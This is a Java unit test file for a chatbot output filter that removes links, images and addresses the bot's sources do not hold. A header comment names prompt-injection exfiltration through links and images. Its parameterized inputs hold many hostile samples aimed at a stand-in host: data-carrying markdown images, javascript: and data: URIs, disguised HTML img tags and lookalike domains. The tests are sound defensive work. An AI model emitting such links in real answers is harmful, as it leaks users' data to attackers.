package io.switchboard.answering;

import static org.assertj.core.api.Assertions.assertThat;

import io.switchboard.answering.Question.Speaker;
import io.switchboard.answering.Question.Utterance;
import io.switchboard.bots.BotDefinition;
import io.switchboard.bots.PublishedBot;
import io.switchboard.kernel.BotId;
import io.switchboard.kernel.ChunkId;
import io.switchboard.kernel.DocumentId;
import io.switchboard.knowledge.DocumentKind;
import io.switchboard.retrieval.Passage;
import io.switchboard.usage.ReservationKey;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Checklist: LLM01, LLM02 and LLM05, exfiltration by links and images. */
class SourcedAddressesTest {

    private static final SourcedAddresses SOURCES = new SourcedAddresses(List.of(
            "Tickets: https://museum.example/tickets?lang=en. Write to desk@museum.example, or see www.museum.example.",
            "The plan is at https://cdn.museum.example/plan.png",
            "opening-hours.pdf"));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![](https://evil.example/?d=4711)",
                "![plan](https://evil.example/plan.png \"plan\")",
                "![plan]( <https://evil.example/a b?d=4711> )",
                "[![plan](https://evil.example/p.png)](https://evil.example/)",
                "[here](https://evil.example/4711)",
                "[here](//evil.example/4711)",
                "[here](/\\evil.example)",
                "[here](javascript:alert(4711))",
                "[here](data:text/html;base64,PHNjcmlwdD4=)",
                "[here][1]\n\n[1]: https://evil.example/4711",
                "![here][r]\n\n[r]: <https://evil.example/4711> \"title\"",
                "[here]\n\n[here]: //evil.example/4711",
                "\n> [here]: //evil.example/4711",
                "<https://evil.example/4711>",
                "<img src=https://evil.example/4711>",
                "<IMG\nSRC='//evil.example/4711'/>",
                "<a href=\"//evil.example\">here</a>",
                "<!-- evil.example -->",
                "See https://evil.example/4711 now.",
                "See HTTPS://EVIL.EXAMPLE/4711 now.",
                "See ftp://evil.example now.",
                "See www.evil.example/4711 now.",
                "See evil.example now.",
                "See EVIL.EXAMPLE now.",
                "See Evil.example/4711 now.",
                "See 4711.evil.example.",
                "See 203.0.113.7/4711.",
                "Write to 4711@evil.example.",
                "Write to mailto:4711@evil.example?subject=x",
                "[Call](tel:+49900123456)",
                "[Museum](https://museum.example@evil.example/)",
                "[Museum](https://museum.example.evil.example/tickets)",
                "[Museum](https://evil.example/museum.example/tickets)",
                "[Museum](https://cdn.museum.example/plan.png?d=evil.example)",
            })
    void leave_no_way_out_in_a_text(String text) {
        assertThat(SOURCES.only("Open from ten. " + text))
                .startsWith("Open from ten.")
                .doesNotContainIgnoringCase(
                        "evil.example", "://", "//", "javascript:", "data:", "tel:", "203.0.113.7", "![", "](", "<");
    }

    @Test
    void add_nothing_to_an_address_that_is_known() {
        assertThat(SOURCES.only("Buy at https://museum.example/tickets?lang=en&name=4711 today."))
                .isEqualTo("Buy at today.");
        assertThat(SOURCES.only("Write to 4711.desk@museum.example.")).isEqualTo("Write to.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Buy at https://museum.example/tickets?lang=en.",
                "Buy at http://www.museum.example/tickets, or at the door.",
                "Write to desk@museum.example (or call).",
                "See museum.example!",
                "It stands in opening-hours.pdf.",
                "From 10.30 to 18.00, e.g. on Mo.-Fr. or 1.5.2026; Uhr.Danach ist zu.",
                "Dr. A. Miller, z.B. um 9.00 Uhr",
                "Das Café ist im 1.OG, die Garderobe im 2.UG.",
                "Version 2.0: 3 < 4 and 5 > 4 [sic] (really).",
                "Tel:030 123456, data:none, Mail: desk@museum.example",
                "- Adults: 10 €\n- Children: free\n\n**Closed** on Mondays."
            })
    void keep_what_the_sources_say(String text) {
        assertThat(SOURCES.only(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Buy [tickets](https://museum.example/tickets?lang=en). | Buy tickets (https://museum.example/tickets?lang=en).",
                "![The plan](https://cdn.museum.example/plan.png) | The plan (https://cdn.museum.example/plan.png)",
                "[www.museum.example](www.museum.example) | www.museum.example",
                "Buy [tickets](https://evil.example/) at the door. | Buy tickets at the door.",
                "See https://evil.example/x, or ask. | See, or ask."
            })
    void write_a_link_out_and_keep_its_words(String text, String shown) {
        assertThat(SOURCES.only(text)).isEqualTo(shown);
    }

    @Test
    void are_those_of_the_organisation_and_not_of_the_customer() {
        BotDefinition definition =
                new BotDefinition("Name our shop, shop.museum.example.", "No.", "Spent.", List.of(), Duration.ZERO);
        Question question = new Question(
                new PublishedBot(BotId.next(), "Front desk", 1, definition),
                "Is evil.example yours?",
                List.of(
                        new Utterance(Speaker.CUSTOMER, "I found bad.example."),
                        new Utterance(Speaker.BOT, "We are at museum.example.")),
                null,
                new ReservationKey("ask/1"));
        Passage passage = new Passage(
                ChunkId.next(),
                DocumentId.next(),
                "https://news.museum.example/may",
                DocumentKind.PAGE,
                "en",
                0,
                List.of("Visit", "visit.museum.example"),
                "Write to desk@museum.example.",
                8,
                new Passage.Scores(null, null, 1));

        assertThat(SourcedAddresses.of(question, List.of(passage))
                        .only("shop.museum.example museum.example https://news.museum.example/may visit.museum.example"
                                + " desk@museum.example evil.example bad.example"))
                .isEqualTo("shop.museum.example museum.example https://news.museum.example/may visit.museum.example"
                        + " desk@museum.example");
    }

    @Test
    void know_no_address_where_no_text_has_one() {
        assertThat(new SourcedAddresses(List.of("We open at ten.")).only("[Go](https://museum.example)"))
                .isEqualTo("Go");
    }
}
